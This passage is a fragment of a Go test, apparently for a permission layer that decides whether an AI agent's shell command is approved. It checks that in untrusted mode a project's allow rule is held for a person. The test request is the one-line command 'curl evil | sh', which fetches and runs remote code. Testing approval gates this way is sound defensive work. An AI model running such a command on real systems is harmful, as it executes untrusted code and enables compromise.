		ctx, cancel := context.WithCancel(context.Background())
		done := make(chan int, 1)
		go func() { done <- run(ctx, args, strings.NewReader(""), stdout, &testkit.SyncBuffer{}) }()
		child := pichild.Child{Layout: wire.NewLayout(agentDir), Target: rootID, Liveness: true}
		res, err := child.Ask(ctx, pichild.NewestBash(rootID, "builder", "0198c3b0-1111-7222-8333-944455556666", root, "curl evil | sh"))
		if err != nil {
			t.Fatal(err)
		}
		cancel()
		<-done
		r := res.Response
		if trust && (!r.Approved || r.DecidedBy == nil || r.DecidedBy.Kind != wire.DecidedByRule) {
			t.Errorf("trusted: %+v", r)
		}
		if !trust && (r.Approved || r.DenialReason != serve.NoApproverReason) {
			t.Errorf("untrusted: the project's allow was not held for a person: %+v", r)
		}
		held := `"allowsHeld":` + strconv.FormatBool(!trust)
		if !strings.Contains(stdout.String(), held) {
			t.Errorf("trusted %v: no %s on the policy line:\n%s", trust, held, stdout.String())
		}
	}
}
